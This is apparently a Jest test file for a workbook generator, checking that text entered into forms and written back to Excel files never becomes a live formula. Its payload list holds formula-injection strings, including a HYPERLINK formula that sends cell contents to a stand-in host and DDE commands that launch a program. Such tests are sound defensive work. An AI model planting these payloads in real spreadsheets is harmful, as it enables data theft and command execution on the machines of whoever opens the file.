// A text that begins as a formula does stays a text in whatever workbook it is written into: what one commune types is
// run on nobody else's computer.
import { describe, expect, it } from '@jest/globals';
import { strFromU8, unzipSync } from 'fflate';
import { packByHash } from '#domain/packs/catalogue';
import { readWorkbook } from '#workbook/reader/read';
import { writeBack } from '#workbook/write-back';
import { examplePack } from '../support/clean-sheet.ts';
import { formOf } from '../support/forms.ts';

const TEXTS = [
  '=HYPERLINK("http://x.example/?"&A1,"bấm vào đây")',
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  'DDE("cmd";"/C calc")',
];

function formulasIn(bytes: Uint8Array): string[] {
  return Object.entries(unzipSync(bytes))
    .filter(([name]) => name.startsWith('xl/worksheets/'))
    .flatMap(([, part]) => [...strFromU8(part).matchAll(/<f[^>]*>(.*?)<\/f>/gs)])
    .map(([, formula]) => formula!);
}

const work = (text: string) => ({
  works: [{ id: 'w1', fields: { name: text, village: text, year: '2017' } }],
});

describe.each(TEXTS)('%j', (text) => {
  it('drawn into a form is no formula', async () => {
    const plain = formulasIn(await formOf('05986'));
    const drawn = formulasIn(
      await formOf('05986', { notes: { '2.1.evidence': text }, registers: work(text) }),
    );
    expect(drawn.filter((formula) => !plain.includes(formula))).toEqual([]);
  });

  it('written back into a file that came is no formula', async () => {
    const bytes = await formOf('05986');
    const read = await readWorkbook(bytes, { packByHash, defaultPack: examplePack() });
    if (read.kind === 'problem') throw new Error('The form cannot be read');
    const changes = { entries: {}, notes: { '2.1.evidence': text } };
    const written = await writeBack(bytes, read.form, changes);
    expect(formulasIn(written).sort()).toEqual(formulasIn(bytes).sort());
  });
});
